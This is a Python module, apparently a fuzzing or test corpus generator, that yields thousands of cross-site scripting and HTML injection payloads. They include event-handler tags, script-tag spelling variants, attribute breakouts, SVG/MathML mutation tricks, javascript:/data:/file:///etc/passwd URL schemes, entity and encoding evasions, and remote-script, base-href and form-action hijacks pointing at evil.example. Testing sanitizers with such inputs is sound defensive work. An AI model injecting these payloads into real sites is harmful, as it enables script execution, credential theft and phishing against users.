"""Markup that somebody plants: each function makes one class of it."""

from collections.abc import Iterator
from html import escape
from itertools import product
from urllib.parse import quote

# What stands in for a program that somebody would like to run.
CODE = "pwn(7)"

OPENERS = ("", "'>", '">', "-->", "</title>", "</textarea>", "</script>", "]]>")
TAGS = ("img", "svg", "body", "details", "video", "input", "a", "marquee", "math")
EVENTS = ("onerror", "onload", "onclick", "ontoggle", "onfocus", "onpointerenter")
JOINS = (" ", "/", "\t", "\n", "\f")


def tags_with_events() -> Iterator[str]:
    for opener, tag, event, join in product(OPENERS, TAGS, EVENTS, JOINS):
        yield f"{opener}<{tag}{join}src=x{join}{event}={CODE}>"


def scripts() -> Iterator[str]:
    spelt = ("script", "SCRIPT", "ScRiPt", "script\t", "script/x", "\u017fcript")
    ends = ("</script>", "</script", "</script foo>", "//", "<!--", "")
    for opener, name, end in product(OPENERS, spelt, ends):
        yield f"{opener}<{name}>{CODE}{end}"
        yield f"{opener}<{name} src=//evil.example/x.js>{end}"


def out_of_attributes() -> Iterator[str]:
    ends = ("'", '"', "`", "' ", '" ', "\\'", '\\"', "&quot;", "&#39;", "\u2033")
    for end, event, rest in product(ends, EVENTS, ("", " x='", ' x="', ">", "/>")):
        yield f"{end} autofocus {event}={CODE}{rest}"
        yield f"{end}style=background:url(//evil.example){rest}"


def foreign_elements() -> Iterator[str]:
    outer = ("svg", "math", "svg><desc", "svg><foreignObject", "math><mtext", "select")
    inner = (
        *("table><mglyph><style", "style", "title", "noscript", "xmp", "template"),
        *("script", "use href=data:,x", "animate onbegin=pwn(7)", "annotation-xml"),
    )
    tails = (f"<img src onerror={CODE}>", f"<!--</x><img src onerror={CODE}>-->", "")
    for one, two, tail in product(outer, inner, tails):
        yield f"<{one}><{two}>{tail}"
        yield f"<{one}><{two}><a title='</{two.split()[0]}>{tail}'>"


def documents() -> Iterator[str]:
    pieces = (
        *("<base href=//evil.example/>", "<meta http-equiv=refresh content=0;//e.x>"),
        *("<link rel=stylesheet href=//evil.example>", "<style>*{color:red}</style>"),
        *("<iframe srcdoc='&lt;script>pwn(7)'>", "<object data=//evil.example>"),
        *("<form action=//evil.example><input name=name>", "<button formaction=//e.x>"),
        *("<!doctype html><html><body>", "</main></body></html>", "<plaintext>"),
        *("<!--", "--!>", "<![CDATA[", "<?xml version='1.0'?>", "<!DOCTYPE a [<!"),
        *("<textarea>", "<title>", "<xmp>", "<noembed>", "<template>", "<frameset>"),
        *("<p id=main>", "<a name=body>", "<input name=attributes>", "<slot>"),
    )
    for opener, piece in product(OPENERS, pieces):
        yield opener + piece
        yield f"A sentence, {opener}{piece} and the rest of it."


SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:"),
    *("\x01javascript:", "javascript&colon;", "vbscript:", "data:", "data:text/html,"),
    *("data:text/html;base64,PHNjcmlwdD4", "data:image/svg+xml,", "blob:", "tel:"),
    *(
        "file:///etc/passwd#",
        "view-source:",
        "jar:",
        "feed:javascript:",
        "//evil.example/",
    ),
    *("https:javascript:", "\\\\evil.example\\", "/\\evil.example/", "http://[::1]/"),
    *("https://evil.example@127.0.0.1/", "mailto:a@b.c?bcc="),
)


def schemes() -> Iterator[str]:
    tails = (
        *(
            CODE,
            f"//%0a{CODE}",
            f"'{CODE}'",
            "\\u0070wn(7)",
            f"<script>{CODE}</script>",
        ),
        *(f"/*{CODE}*/", "%0d%0aX: y", "alert`7`"),
    )
    for scheme, tail in product(SCHEMES, tails):
        yield scheme + tail


def addresses_in_tags() -> Iterator[str]:
    places = (
        *(
            "a href",
            "iframe src",
            "form><button formaction",
            "object data",
            "embed src",
        ),
        *("svg><a xlink:href", "img srcset", "link rel=import href", "body background"),
        *("math><mi href", "area href", "input type=image src", "video poster"),
    )
    for place, scheme, end in product(places, SCHEMES, ("'", '"', "")):
        yield f"<{place}={end}{scheme}{CODE}{end}>x"


def entities() -> Iterator[str]:
    for plain in (f"<script>{CODE}</script>", f"<img src=x onerror={CODE}>", "\"'&<>"):
        for times in range(1, 5):
            once = plain
            for _again in range(times):
                once = escape(once)
            yield once
        yield "".join(f"&#{ord(each)}" for each in plain)
        yield "".join(f"&#x{ord(each):x};" for each in plain)
        yield "".join(f"&#{ord(each):07};" for each in plain)
        yield quote(plain)
        yield quote(quote(plain))
        yield "".join(f"\\u{ord(each):04x}" for each in plain)
        yield "".join(f"\\x{ord(each):02x}" for each in plain)
        yield "".join(chr(ord(each) + 0xFEE0) for each in plain if each > " ")
        yield plain.encode("utf-7").decode("ascii")
    for each in ("lt", "gt", "quot", "amp", "Tab", "NewLine", "colon", "lpar", "bogus"):
        for end, code in product((";", "", ";;"), ("", "<b>", f"={CODE}")):
            yield f"&{each}{end}{code}"
    for number in (0, 10, 13, 38, 60, 128, 0xD800, 0xFFFE, 0x110000, 10**30):
        yield f"&#{number};<b>"
        yield f"&#x{number:x};<b>"
